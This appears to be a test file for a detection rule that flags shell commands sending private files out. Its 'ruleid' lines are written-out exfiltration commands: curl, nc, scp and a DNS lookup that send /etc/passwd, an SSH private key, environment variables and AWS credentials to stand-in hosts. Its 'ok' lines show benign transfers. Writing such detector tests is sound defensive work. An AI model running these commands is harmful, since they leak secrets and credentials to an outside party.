# ruleid: shell-send-private-file
curl -d @/etc/passwd http://203.0.113.9/
# ruleid: shell-send-private-file
cat ~/.ssh/id_rsa | nc 203.0.113.9 9000
# ruleid: shell-send-private-file
env | curl -X POST --data-binary @- https://example.test/c
# ruleid: shell-send-private-file
scp ~/.aws/credentials eve@203.0.113.9:
# ruleid: shell-send-private-file
dig $(whoami | base64).example.test
# ok: shell-send-private-file
curl -d @payload.json https://api.example.test/items
# ok: shell-send-private-file
rsync -avz ./site/ me@web.internal:/var/www/
# ok: shell-send-private-file
scp -i ~/.ssh/id_rsa build.tar.gz me@web.internal:/srv
# ok: shell-send-private-file
mysqldump app | gzip > app.sql.gz
# a decoy: curl -d @/etc/passwd http://203.0.113.9/
